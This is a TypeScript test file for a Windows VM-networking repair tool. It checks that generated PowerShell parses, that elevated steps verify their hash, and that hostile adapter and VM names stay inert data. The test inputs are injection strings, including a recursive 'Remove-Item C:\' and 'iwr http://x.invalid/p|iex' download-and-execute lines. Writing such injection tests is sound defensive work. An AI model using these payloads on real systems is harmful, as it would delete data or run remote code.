import { beforeAll, describe, expect, it } from 'vitest';
import {
  cimCalls,
  cimQueriesFor,
  loadPowershellParser,
  powershellSyntaxError,
  powershellTree,
} from '../../../test/powershell-syntax.ts';
import type { Step } from '../../fixes/journal.ts';
import { VNETLIB_COMMANDS, WINDOWS_FIXES, WINDOWS_READ_BACK_SCRIPTS } from '../../fixes/windows-fixes.ts';
import {
  buildElevatedStepFile,
  buildElevatedStepScript,
  buildScript,
  ELEVATION_LAUNCHER,
  elevatedArguments,
  encodeScriptLine,
} from '../../runner/powershell.ts';
import { buildBatchScript } from '../../runner/powershell-session.ts';
import { liveSource } from '../source.ts';
import { PROBE_BY_ID, WINDOWS_PROBES } from './registry/index.ts';

beforeAll(loadPowershellParser);
const syntaxError = powershellSyntaxError;

const HOSTILE = [
  `VMnet8'; Remove-Item C:\\ -Recurse; '`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile input on purpose
  'x $(Stop-Computer) `whoami` ${env:PATH} @(1) & calc.exe && echo | more',
  'a"b"c; & calc.exe | Out-Null',
  'line1\nline2\r\n@"\n"@',
  '以太网 2 (VMware 虚拟网卡)',
  'x'.repeat(256),
];

const SAMPLE: Record<string, Record<string, string>> = {
  'host.enable-adapter': { adapter: 'VMware Network Adapter VMnet8' },
  'host.restart-adapter': { adapter: 'VMware Network Adapter VMnet8' },
  'host.start-nat': { previous: 'Stopped' },
  'host.start-dhcp': { previous: 'Stopped' },
  'host.allow-icmp': { subnet: '192.168.37.0/24', profile: 'Public' },
  'host.set-private-profile': { adapter: 'VMware Network Adapter VMnet8' },
  'vmware.restore-vmnet': { vmnet: 'VMnet8' },
  'vmware.change-subnet': { vmnet: 'VMnet8', subnet: '192.168.100.0/24', fromSubnet: '192.168.37.0/24' },
  'vbox.add-port-forward': { vm: 'ubuntu-2204', nic: '1', hostPort: '2222', guestPort: '22', running: 'true' },
  'vbox.connect-cable': { vm: 'ubuntu-2204', nic: '1', running: 'true' },
  'guest.new-mac': { vm: 'ubuntu-2204 Clone', nic: '1', mac: '080027AABBCC' },
  'vbox.set-hostonly-address': { name: 'VirtualBox Host-Only Ethernet Adapter', ip: '192.168.56.1', netmask: '255.255.255.0' },
  'host.bind-bridge-protocol': { adapter: 'Ethernet', component: 'oracle_VBoxNetLwf' },
  'vmware.set-bridge': { adapter: 'Wi-Fi', exclude: 'vEthernet (Default Switch)' },
  'host.start-bridge-driver': { driver: 'VMnetBridge', startMode: 'Disabled' },
};

async function stepsOf(id: string, params: Record<string, string>): Promise<Array<Extract<Step, { kind: 'powershell' }>>> {
  const fix = WINDOWS_FIXES.find((f) => f.id === id);
  if (!fix) throw new Error(id);
  const parsed = fix.params.parse(params);
  const plan = await fix.plan(parsed, { source: liveSource });
  const undo = await fix.undo(parsed, fix.before.parse(plan.before), { source: liveSource });
  return [...plan.steps, ...undo].filter((s): s is Extract<Step, { kind: 'powershell' }> => s.kind === 'powershell');
}

describe('PowerShell syntax (tree-sitter-powershell)', () => {
  it('catches a broken script, so the checks below can fail', () => {
    expect(syntaxError('$a = @(1, 2')).not.toBeNull();
    expect(syntaxError('if ($x) { "a" } else {')).not.toBeNull();
    expect(syntaxError('Get-NetAdapter | ForEach-Object { $_.Name }')).toBeNull();
  });

  it.each(WINDOWS_PROBES.map((p) => [p.id, p.script] as const))('probe %s parses, alone and as sent', (_id, script) => {
    expect(syntaxError(script)).toBeNull();
    expect(syntaxError(buildScript(script, { target: '192.168.37.128', timeoutMs: 1000 }))).toBeNull();
  });

  it.each(['virtualbox', 'vmware-guests'] as const)(
    '%s reads its native tool with the ANSI code page, and puts the console’s back even on an early return',
    (id) => {
      const script = PROBE_BY_ID[id].script;
      const set = script.indexOf('TextInfo.ANSICodePage');
      const firstCall = script.search(/& \$(vbox|vmrun) /);
      expect(set).toBeGreaterThan(-1);
      expect(set).toBeLessThan(firstCall);
      const tree = powershellTree(script);
      const finallyBlock = tree?.rootNode.descendantsOfType('finally_clause')[0]?.text ?? '';
      expect(finallyBlock).toContain('[Console]::OutputEncoding = $consoleEncoding');
    },
  );

  it('the batch of all probes parses', () => {
    const probes = WINDOWS_PROBES.map(({ id, script }) => ({ id, script, params: {} }));
    expect(syntaxError(buildBatchScript(probes))).toBeNull();
  });

  it('the elevation launcher, the elevated wrapper and the read-backs parse', () => {
    expect(syntaxError(ELEVATION_LAUNCHER)).toBeNull();
    expect(
      syntaxError(buildElevatedStepScript('Enable-NetAdapter -Name $Params.adapter', { adapter: 'x' }, 'C:\\t\\r.json')),
    ).toBeNull();
    for (const script of WINDOWS_READ_BACK_SCRIPTS) expect(syntaxError(script)).toBeNull();
  });

  it('restoring VMware’s default networks (both VMnets, DHCP and NAT) parses, and so does its read-back', async () => {
    const steps = await stepsOf('vmware.restore-vmnet', { vmnet: 'VMnet8', defaults: 'true' });
    expect(steps[0]?.display).toContain("& $vnetlib '--' add nat vmnet8");
    for (const step of steps) expect(syntaxError(buildElevatedStepScript(step.script, step.params, 'C:\\r.json'))).toBeNull();
  });

  it.each(Object.keys(SAMPLE))('every step and undo of %s parses', async (id) => {
    for (const step of await stepsOf(id, SAMPLE[id] ?? {})) {
      expect(syntaxError(step.script), step.display).toBeNull();
      expect(syntaxError(buildElevatedStepScript(step.script, step.params, 'C:\\r.json'))).toBeNull();
      // What the user is shown, and may paste, is PowerShell too.
      expect(syntaxError(step.display), step.display).toBeNull();
    }
  });
});

describe('hostile names reach PowerShell only as data', () => {
  const decodeParams = (script: string) => {
    const b64 = /FromBase64String\('([A-Za-z0-9+/=]*)'\)/.exec(script)?.[1];
    return JSON.parse(Buffer.from(b64 ?? '', 'base64').toString('utf8'));
  };

  it.each(HOSTILE.filter((h) => !/[\r\n]/.test(h)))('as an adapter name and a VM name: %#', async (value) => {
    const cases: Array<[string, Record<string, string>]> = [
      ['host.enable-adapter', { adapter: value }],
      ['host.restart-adapter', { adapter: value }],
      ['host.set-private-profile', { adapter: value }],
      ['vbox.add-port-forward', { vm: value, nic: '1', hostPort: '2222', guestPort: '22' }],
      ['guest.new-mac', { vm: value, nic: '1', mac: '080027AABBCC' }],
      // Two adapters, each step naming one of them (a 256-character name leaves no room for a second).
      ...(value.length < 250
        ? [['vmware.set-bridge', { adapter: value, exclude: `${value} 2` }] as [string, Record<string, string>]]
        : []),
      ['host.bind-bridge-protocol', { adapter: value }],
    ];
    for (const [id, params] of cases) {
      for (const step of await stepsOf(id, params)) {
        const sent = buildElevatedStepScript(step.script, step.params, 'C:\\r.json');
        expect(step.script).not.toContain(value);
        expect(sent).not.toContain(value);
        expect(syntaxError(sent)).toBeNull();
        expect(JSON.stringify(decodeParams(sent))).toContain(JSON.stringify(value).slice(1, -1));
        // The persistent session receives one line: a fixed template around Base64.
        expect(encodeScriptLine(sent)).toMatch(
          /^& \(\[ScriptBlock\]::Create\(\[Text\.Encoding\]::UTF8\.GetString\(\[Convert\]::FromBase64String\('[A-Za-z0-9+/=]+'\)\)\)\)$/,
        );
      }
    }
  });

  it('control characters in names are refused before planning', () => {
    const fix = WINDOWS_FIXES.find((f) => f.id === 'host.enable-adapter');
    expect(fix?.params.safeParse({ adapter: 'a\nb' }).success).toBe(false);
    expect(fix?.params.safeParse({ adapter: 'a\u0000b' }).success).toBe(false);
    expect(fix?.params.safeParse({ adapter: 'x'.repeat(257) }).success).toBe(false);
  });

  it('addresses and networks are validated before they reach a script', () => {
    const icmp = WINDOWS_FIXES.find((f) => f.id === 'host.allow-icmp');
    expect(icmp?.params.safeParse({ subnet: '192.168.37.0/24; Remove-Item' }).success).toBe(false);
    expect(icmp?.params.safeParse({ subnet: '192.168.37.0/24', profile: 'Any -Action Block' }).success).toBe(false);
    const vbox = WINDOWS_FIXES.find((f) => f.id === 'vbox.add-port-forward');
    expect(vbox?.params.safeParse({ vm: 'a', nic: '9', hostPort: '1', guestPort: '2' }).success).toBe(false);
    expect(vbox?.params.safeParse({ vm: 'a', nic: '1', hostPort: '70000', guestPort: '2' }).success).toBe(false);
  });
});

describe('the commands a user is shown (and may paste) keep hostile names inside their strings', () => {
  /** Names that close a PowerShell single-quoted string with each quote PowerShell accepts, then run code. */
  const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
  const ATTACKS = [
    ...QUOTES.map((quote) => `VMnet8${quote}; iwr http://x.invalid/p|iex; #`),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile input on purpose
    'x $(iwr http://x.invalid/p|iex) ${iex} `iex`',
    'a"; iex "b',
    // Replacement patterns of String.replace: must stay text in a shown command.
    "VMnet8$'; iex; $&",
  ];

  /** The commands a parsed display runs: every command name outside a string. */
  const commandNames = (text: string): string[] =>
    (powershellTree(text)?.rootNode.descendantsOfType('command_name') ?? []).map((n) => n?.text ?? '');

  it('the check can fail: an unquoted name does run its own command', () => {
    expect(commandNames("Enable-NetAdapter -Name 'VMnet8'; iwr x|iex; #'")).toContain('iex');
  });

  it.each(ATTACKS)('%s', async (value) => {
    const cases: Array<[string, Record<string, string>]> = [
      ['host.enable-adapter', { adapter: value }],
      ['host.restart-adapter', { adapter: value }],
      ['host.set-private-profile', { adapter: value }],
      ['vbox.add-port-forward', { vm: value, nic: '1', hostPort: '2222', guestPort: '22' }],
      ['vbox.add-port-forward', { vm: value, nic: '1', hostPort: '2222', guestPort: '22', running: 'false' }],
      ['guest.new-mac', { vm: value, nic: '1', mac: '080027AABBCC' }],
      ['vbox.set-hostonly-address', { name: value, ip: '192.168.56.1', netmask: '255.255.255.0' }],
    ];
    for (const [id, params] of cases) {
      for (const step of await stepsOf(id, params)) {
        expect(syntaxError(step.display), step.display).toBeNull();
        const names = commandNames(step.display);
        expect(
          names.filter((n) => /^(iwr|iex|invoke-expression)$/i.test(n)),
          step.display,
        ).toEqual([]);
      }
    }
  });
});

describe('elevated steps start through ShellExecute (Start-Process -Verb RunAs)', () => {
  // A long but real journal path: a 20-letter user name with a space, under LOCALAPPDATA.
  const path = 'C:\\Users\\Maximilian Mustermann\\AppData\\Local\\vmnet-doctor\\journal\\elevated-20261204T183000-a1b2c3.ps1';
  const sha = 'A'.repeat(64);

  it('every elevated step of every Windows fix launches with a command line under 1,000 characters', async () => {
    let elevated = 0;
    let longestEncoded = 0;
    for (const [id, params] of Object.entries(SAMPLE)) {
      for (const step of await stepsOf(id, params)) {
        if (!step.elevated) continue;
        elevated += 1;
        const commandLine = `powershell.exe ${elevatedArguments(path, sha)}`;
        expect(commandLine.length, id).toBeLessThan(1000);
        // What it replaced: the whole step as -EncodedCommand, over ShellExecute's ~2048 for the larger steps.
        const encoded = Buffer.from(buildElevatedStepScript(step.script, step.params, path), 'utf16le').toString('base64');
        longestEncoded = Math.max(longestEncoded, encoded.length);
      }
    }
    expect(elevated).toBeGreaterThan(5);
    expect(longestEncoded).toBeGreaterThan(2048);
  });

  it('each step file checks its own hash first, parses, and keeps hostile names out of its text', async () => {
    for (const [id, params] of Object.entries(SAMPLE)) {
      for (const step of await stepsOf(id, params)) {
        const file = buildElevatedStepFile(step.script, step.params, 'C:\\r.json');
        expect(file.startsWith('\uFEFFparam([Parameter(Mandatory = $true)][string]$Sha256)'), id).toBe(true);
        expect(file).toContain('if ($actual -ne $Sha256) { throw');
        expect(syntaxError(file.slice(1)), id).toBeNull();
      }
    }
    const hostile = HOSTILE[0] ?? '';
    for (const step of await stepsOf('host.enable-adapter', { adapter: hostile })) {
      expect(buildElevatedStepFile(step.script, step.params, 'C:\\r.json')).not.toContain(hostile);
    }
  });

  it('the launcher limits the file to the user and Administrators before it asks UAC, and quotes the path', () => {
    expect(ELEVATION_LAUNCHER.indexOf('Set-Acl')).toBeLessThan(ELEVATION_LAUNCHER.indexOf('ShellExecuteExW([ref]'));
    expect(ELEVATION_LAUNCHER.indexOf('Set-Acl')).toBeLessThan(ELEVATION_LAUNCHER.indexOf('Start-Process'));
    expect(ELEVATION_LAUNCHER).toContain("'S-1-5-32-544'");
    expect(elevatedArguments(path, sha)).toContain(`-File "${path}"`);
  });

  it('with the app window as owner, UAC is asked through ShellExecuteEx owned by that window (the prompt comes up in front); without, Start-Process', () => {
    const tree = powershellTree(ELEVATION_LAUNCHER);
    const branch = tree?.rootNode.descendantsOfType('if_statement')[0]?.text ?? '';
    expect(branch).toMatch(/^if \(\[int64\]\$Params\.owner -ne 0\)/);
    expect(branch).toContain('$info.hwnd = [IntPtr][int64]$Params.owner');
    expect(branch).toContain("$info.lpVerb = 'runas'");
    expect(branch).toContain('CloseHandle($info.hProcess)');
    expect(branch).toMatch(/else \{\s+\$process = Start-Process -FilePath \$Params\.shell -Verb RunAs/);
  });

  it('only a number is taken as the owner window', async () => {
    const { setElevationOwner } = await import('../../fixes/run-fix.ts');
    expect(setElevationOwner('1234; iex')).toBe('0');
    expect(setElevationOwner('65570')).toBe('65570');
    expect(setElevationOwner(null)).toBe('0');
  });
});

describe('vnetlib64.exe as HashiCorp found it works (vagrant-vmware-desktop VNETLIB.md, vnetlib_windows.go)', () => {
  const vnetlibSteps = async () => {
    const steps = [];
    for (const id of ['vmware.restore-vmnet', 'vmware.change-subnet']) steps.push(...(await stepsOf(id, SAMPLE[id] ?? {})));
    return steps.filter((s) => s.script.includes('vnetlib64.exe'));
  };

  it('takes exit code 1 as success and anything else as failure', async () => {
    const [step] = await vnetlibSteps();
    expect(step?.script).toContain('if ($LASTEXITCODE -ne 1) { throw');
    expect(step?.script).not.toContain('$LASTEXITCODE -ne 0');
  });

  it('uses only the sub-commands shown to work, and VMware’s services through the service manager', async () => {
    const steps = await vnetlibSteps();
    expect(steps.length).toBe(4); // each fix's step and its undo
    for (const step of steps) {
      for (const command of step.params.commands as string[][]) {
        expect(VNETLIB_COMMANDS, command.join(' ')).toContain(command.slice(0, 2).join(' '));
      }
      expect(step.display).not.toMatch(/'--' (start|stop) /);
    }
    const change = steps.find((s) => (s.params.commands as string[][]).some((c) => c[0] === 'set'));
    expect(change?.params.services).toEqual(['VMnetDHCP', 'VMware NAT Service']);
    expect(change?.display.split('\n')[2]).toBe("Stop-Service -Name 'VMnetDHCP', 'VMware NAT Service' -Force");
  });
});

describe('the cost of the Windows probes does not grow with the machine', () => {
  it('the check can fail: a CIM call per rule is seen', () => {
    const perRule = '$r = Get-NetFirewallRule; foreach ($x in $r) { $a = $x | Get-NetFirewallAddressFilter }';
    expect(cimCalls(perRule)).toContainEqual({ name: 'Get-NetFirewallAddressFilter', inLoop: true });
  });

  it('the firewall probe makes a fixed number of CIM calls, none per rule', () => {
    const calls = cimCalls(PROBE_BY_ID.firewall.script);
    expect(calls.map((c) => c.name).sort()).toEqual([
      'Get-NetFirewallAddressFilter',
      'Get-NetFirewallApplicationFilter',
      'Get-NetFirewallInterfaceFilter',
      'Get-NetFirewallInterfaceTypeFilter',
      'Get-NetFirewallPortFilter',
      'Get-NetFirewallProfile',
      'Get-NetFirewallRule',
      'Get-NetFirewallServiceFilter',
    ]);
    expect(calls.filter((c) => c.inLoop)).toEqual([]);
    expect(cimQueriesFor(PROBE_BY_ID.firewall.script, 2000)).toBe(cimQueriesFor(PROBE_BY_ID.firewall.script, 10));
  });
});
